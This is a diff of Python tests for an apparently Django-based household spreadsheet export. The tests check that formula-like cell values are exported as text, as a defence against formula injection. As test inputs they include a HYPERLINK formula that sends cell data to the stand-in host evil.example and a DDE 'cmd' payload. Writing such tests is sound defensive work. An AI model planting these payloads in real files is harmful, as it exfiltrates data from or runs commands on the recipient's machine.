@@ -132,3 +132,38 @@ def test_the_export_of_one_micro_grid_is_named_after_it(client3, household):
 def test_the_branch_export_is_named_after_the_community(client, branch, household):
     client.force_login(branch)
     assert "filename=\"households-NJ-2" in disposition(client)
+
+
+FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")"
+
+
+def exported_row(client):
+    workbook = load_workbook(io.BytesIO(client.get(reverse("field:household_export")).content))
+    return list(workbook.active.iter_rows(min_row=2, max_row=2))[0]
+
+
+def test_a_compound_typed_like_a_formula_is_exported_as_text(client3, tree):
+    make_household(compound=FORMULA)
+    cell = exported_row(client3)[excel.FIELDS.index("compound")]
+    assert (cell.value, cell.data_type) == (FORMULA, "s")
+
+
+def test_a_note_typed_like_a_formula_is_exported_as_text(client3, tree):
+    make_household(notes="+1+cmd|'/C calc'!A0")
+    assert exported_row(client3)[excel.FIELDS.index("notes")].data_type == "s"
+
+
+def test_a_formula_imported_as_text_is_exported_as_text_again(client3, tree):
+    from openpyxl.cell import WriteOnlyCell
+
+    workbook = Workbook(write_only=True)
+    page = workbook.create_sheet()
+    page.append(excel.HEADERS)
+    contact = WriteOnlyCell(page, value="@contact")
+    contact.data_type = "s"
+    page.append([*GOOD[:6], contact, *GOOD[7:]])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    upload(client3, SimpleUploadedFile("households.xlsx", buffer.getvalue(), content_type=excel.XLSX))
+    cell = exported_row(client3)[excel.FIELDS.index("contact_name")]
+    assert (cell.value, cell.data_type) == ("@contact", "s")
